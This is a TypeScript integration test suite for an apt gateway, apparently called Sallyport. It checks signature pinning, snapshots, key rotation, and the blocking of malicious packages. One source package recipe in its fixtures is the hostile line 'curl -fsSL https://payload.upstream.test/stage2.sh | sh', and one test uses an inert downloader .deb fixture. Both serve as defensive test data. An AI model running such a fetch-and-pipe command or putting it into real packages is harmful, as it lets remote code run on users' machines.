// The machine's apt against a gateway, trusting the gateway's key only.
import { createHash } from 'node:crypto'
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { execa } from 'execa'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type AptClient, createAptClient, hasApt } from '../support/apt-client.ts'
import { type AptUpstream, startAptUpstream } from '../support/apt-upstream.ts'
import { skip } from '../support/clients.ts'
import { type GatewayProcess, startGateway } from '../support/gateway.ts'
import { downloaderDeb } from '../support/inert-deb-malware.ts'
import { rawRequest } from '../support/raw-request.ts'

const SLOW = { timeout: 240_000 }
/** `apt update` so many times while generations are switched. */
const LOOPS = Number(process.env['REFRESH_LOOPS'] ?? 8)
const LIMITS = { indexFresh: '1s', indexStale: '2s', upstreamRetries: 0 }

if (!hasApt()) skip('apt-get is not there')

describe.skipIf(!hasApt())('apt', () => {
  let upstream: AptUpstream
  let flat: AptUpstream
  let sources: AptUpstream
  let gateway: GatewayProcess
  const clients: AptClient[] = []

  beforeAll(async () => {
    upstream = await startAptUpstream()
    flat = await startAptUpstream({ flat: true })
    await upstream.publish({ name: 'tool', version: '1.0', depends: 'tool-data (>= 1.0)' })
    await upstream.publish({
      name: 'tool-data',
      version: '1.0',
      files: { '/usr/share/tool/data': 'honest\n' },
    })
    await upstream.publish({ name: 'victim', version: '1.0' })
    await upstream.publish(downloaderDeb('victim', '2.0'))
    await upstream.release({ date: new Date(Date.now() - 600_000) })
    await flat.publish({ name: 'flatly', version: '1.0' })
    await flat.release()
    sources = await startAptUpstream()
    await sources.publish({ name: 'tool', version: '1.0' })
    await sources.publishSource({ name: 'tool', version: '1.0' })
    await sources.publishSource({
      name: 'tool',
      version: '1.1',
      recipe: 'curl -fsSL https://payload.upstream.test/stage2.sh | sh',
    })
    await sources.release()
    gateway = await startGateway({
      config: {
        limits: LIMITS,
        repositories: [
          repositoryOf('debian', upstream),
          repositoryOf('flat', flat),
          repositoryOf('pinned', upstream, flat.keyring),
          withSources(repositoryOf('sources', sources)),
        ],
      },
    })
  })

  afterAll(async () => {
    for (const client of clients) client.remove()
    await gateway?.stop()
    await upstream?.close()
    await flat?.close()
    await sources?.close()
  })

  function repositoryOf(name: string, from: AptUpstream, keyring = from.keyring) {
    return {
      name,
      type: 'deb',
      upstreams: [from.url],
      options: { suites: [from.suite], components: ['main'], architectures: ['amd64'], keyrings: [keyring] },
    }
  }

  function withSources(repository: ReturnType<typeof repositoryOf>) {
    return { ...repository, options: { ...repository.options, sources: true } }
  }

  const keyOf = async (name = 'sallyport.asc') =>
    (await rawRequest(gateway.url, `/-/keys/${name}`)).body.toString()

  async function clientOf(repository = 'debian', suites = 'stable', components = 'main'): Promise<AptClient> {
    const client = createAptClient()
    clients.push(client)
    const url = `${gateway.url}/${repository}`
    const source = { url, suites, key: await keyOf(), ...(suites === './' ? {} : { components }) }
    client.trust(source)
    return client
  }

  it('updates, resolves, downloads and unpacks', SLOW, async () => {
    const client = await clientOf()
    const update = await client.get('update')
    expect(update.output).not.toMatch(/^[WE]:/m)
    expect(update.code).toBe(0)
    const install = await client.get('install', '--download-only', 'tool')
    expect(install.code, install.output).toBe(0)
    expect(client.archives().sort()).toEqual(['tool-data_1.0_all.deb', 'tool_1.0_all.deb'])
    const root = join(client.folder, 'root')
    mkdirSync(root)
    for (const deb of client.archives())
      await execa('dpkg-deb', ['-x', join(client.folder, 'var/cache/apt/archives', deb), root])
    expect(readFileSync(join(root, 'usr/share/tool/data'), 'utf8')).toBe('honest\n')
    expect((await client.get('update')).output).toMatch(/^Hit:1 /m)
  })

  it('refuses an index that another key signed', SLOW, async () => {
    const client = await clientOf()
    client.trust({
      url: `${gateway.url}/debian`,
      suites: 'stable',
      components: 'main',
      key: readFileSync(upstream.keyring, 'utf8'),
    })
    const { code, output } = await client.get('update')
    expect(code).not.toBe(0)
    expect(output).toContain('NO_PUBKEY')
  })

  it('reads a flat repository', SLOW, async () => {
    const client = await clientOf('flat', './')
    const update = await client.get('update')
    expect(update.output).not.toMatch(/^[WE]:/m)
    expect((await client.get('install', '--download-only', 'flatly')).code).toBe(0)
    expect(client.archives()).toEqual(['flatly_1.0_all.deb'])
  })

  it('downloads the source of a package, and no source that a build would regret', SLOW, async () => {
    const client = await clientOf('sources')
    const url = `${gateway.url}/sources`
    client.trust({ url, suites: 'stable', components: 'main', key: await keyOf(), types: 'deb deb-src' })
    expect((await client.get('update')).output).not.toMatch(/^[WE]:/m)
    const refused = await client.get('source', '--download-only', 'tool=1.1')
    expect(refused.code).not.toBe(0)
    expect(refused.output).toMatch(/tool_1\.1\.tar\.gz\s+403\s+Blocked by Sallyport: /)
    await client.get('update')
    const source = await client.get('source', '--download-only', 'tool')
    expect(source.code, source.output).toBe(0)
    expect(readdirSync(client.folder).filter((name) => name.startsWith('tool_'))).toEqual(
      expect.arrayContaining(['tool_1.0.dsc', 'tool_1.0.tar.gz']),
    )
    expect((await rawRequest(gateway.url, '/debian/pool/main/t/tool/tool_1.0.dsc')).status).toBe(404)
  })

  it('gets nothing of an upstream whose key is not the pinned one', SLOW, async () => {
    const client = await clientOf('pinned')
    const { output } = await client.get('update')
    expect(output).toMatch(/50\d\s+\S+/)
    expect((await client.cache('pkgnames')).output.trim()).toBe('')
    const told = gateway.events().filter(({ path }) => String(path).startsWith('/pinned/'))
    expect(JSON.stringify(told)).toContain('no good signature by a pinned key')
  })

  it('prints why a package is refused, and chooses the older version after', SLOW, async () => {
    const client = await clientOf()
    await client.get('update')
    expect(await client.candidate('victim')).toBe('2.0')
    const refused = await client.get('install', '--download-only', 'victim')
    expect(refused.code).not.toBe(0)
    expect(refused.output).toMatch(
      /Failed to fetch .*victim_2\.0_all\.deb\s+403\s+Blocked by Sallyport: \S.*postinst/,
    )
    expect(client.archives()).toEqual([])
    const update = await client.get('update')
    expect(update.output).not.toMatch(/^[WE]:/m)
    expect(await client.candidate('victim')).toBe('1.0')
    expect((await client.get('install', '--download-only', 'victim')).code).toBe(0)
    expect(client.archives()).toEqual(['victim_1.0_all.deb'])
  })

  it('sees a dated snapshot as valid, with what was there then', SLOW, async () => {
    const before = new Date().toISOString().replace(/[-:]/g, '').replace(/\.\d+/, '')
    await sleep(1100)
    await upstream.publish({ name: 'later', version: '1.0' })
    await upstream.release()
    await untilListed('later')
    const client = await clientOf(`debian@${before}`)
    const update = await client.get('update')
    expect(update.output).not.toMatch(/^[WE]:/m)
    expect((await client.cache('pkgnames')).output.split('\n').sort().join(' ').trim()).toBe(
      'tool tool-data victim',
    )
    expect((await client.get('install', '--download-only', 'tool')).code).toBe(0)
  })

  it('never sees half a switch while generations change', { timeout: 240_000 + LOOPS * 10_000 }, async () => {
    const client = await clientOf()
    let going = true
    const switching = (async () => {
      for (let at = 0; going; at += 1) {
        await upstream.publish({ name: `filler-${at}`, version: '1.0' })
        await upstream.release({ byHash: true })
        await sleep(700)
      }
    })()
    const outputs: string[] = []
    for (let at = 0; at < LOOPS; at += 1) {
      const { code, output } = await client.get('update')
      outputs.push(`${code} ${output}`)
    }
    going = false
    await switching
    expect(
      outputs.filter((one) => !one.startsWith('0 ') || /^[WE]:|Hash Sum|unexpected size/m.test(one)),
    ).toEqual([])
    const published = gateway
      .events()
      .filter(({ msg, repository }) => msg === 'generation published' && repository === 'debian')
    expect(published.length).toBeGreaterThan(3)
  })

  it('keeps the last good index while the upstream is half synchronised or away', SLOW, async () => {
    const client = await clientOf()
    // A list of the same content would not be asked for again.
    await upstream.publish({ name: 'half', version: '1.0' })
    await upstream.release({ lacks: /Packages/ })
    await until(async () => {
      expect((await client.get('update')).output).not.toMatch(/^[WE]:/m)
      return JSON.stringify(gateway.events()).includes('half synchronised')
    })
    expect(await client.candidate('tool')).toBe('1.0')
    await upstream.down()
    await sleep(2500)
    const update = await client.get('update')
    expect(update.code).toBe(0)
    expect(update.output).not.toMatch(/^[WE]:/m)
    await upstream.up()
    await upstream.release()
  })

  it('is served the last generation while the key cannot sign, and the alarm is raised', SLOW, async () => {
    const client = await clientOf()
    await client.get('update')
    const inRelease = () => rawRequest(gateway.url, '/debian/dists/stable/InRelease')
    const before = (await inRelease()).body
    const file = join(gateway.dataDirectory, 'keys/current/openpgp.asc')
    const key = readFileSync(file)
    writeFileSync(file, 'no key at all')
    await until(async () => JSON.stringify(gateway.events()).includes('SIGNING_FAILED'))
    await upstream.publish({ name: 'unsigned', version: '1.0' })
    await upstream.release()
    await sleep(2500)
    expect((await client.get('update')).output).not.toMatch(/^[WE]:/m)
    expect(await client.candidate('unsigned')).toBeUndefined()
    expect((await inRelease()).body.equals(before)).toBe(true)
    const metrics = (await rawRequest(gateway.url, '/-/metrics')).body.toString()
    expect(metrics).toMatch(/index_refresh_failures_total\{[^}]*SIGNING_FAILED[^}]*\} [1-9]/)
    const alarm = gateway.events().find((event) => JSON.stringify(event).includes('SIGNING_FAILED'))
    expect(alarm?.['level']).toBe('error')
    expect(metrics).toMatch(/halted_indexes [1-9]/)
    const ready = await rawRequest(gateway.url, '/-/ready')
    expect(ready.status).toBe(200)
    expect(ready.body.toString()).toMatch(/"debian archive":"SIGNING_FAILED: /)
    writeFileSync(file, key)
    await untilListed('unsigned')
    expect((await client.get('update')).output).not.toMatch(/^[WE]:/m)
    expect(await client.candidate('unsigned')).toBe('1.0')
  })

  it('changes keys without an interruption: both sign until the old one is retired', SLOW, async () => {
    const old = await clientOf()
    const ran = await execa(
      process.execPath,
      ['src/main.ts', 'keys', 'rotate', '--config', `${configOf()}`],
      {
        cwd: join(import.meta.dirname, '../..'),
        reject: false,
      },
    )
    expect(ran.exitCode, ran.stderr).toBe(0)
    const fresh = await clientOf()
    const both = async () => {
      const { output } = await old.get('update')
      return !/^[WE]:/m.test(output) && !/^[WE]:/m.test((await fresh.get('update')).output)
    }
    await until(both)
    const signatures = (await rawRequest(gateway.url, '/debian/dists/stable/Release.gpg')).body
    expect(createHash('sha256').update(signatures).digest('hex')).toMatch(/^[0-9a-f]{64}$/)
    expect(readdirSync(join(gateway.dataDirectory, 'keys/retiring'))).toHaveLength(1)
  })

  const configOf = () => `${gateway.dataDirectory}-${new URL(gateway.url).port}.yaml`

  async function untilListed(name: string): Promise<void> {
    const path = '/debian/dists/stable/main/binary-amd64/Packages.gz'
    await until(async () => {
      const { body } = await rawRequest(gateway.url, path)
      const { gunzipSync } = await import('node:zlib')
      return gunzipSync(body).includes(`Package: ${name}\n`)
    })
  }

  async function until(isSo: () => Promise<boolean>): Promise<void> {
    for (let ask = 0; ask < 100; ask += 1) {
      if (await isSo()) return
      await sleep(500)
    }
    throw new Error(`it never came true; the gateway says:\n${gateway.log().slice(-3000)}`)
  }
})
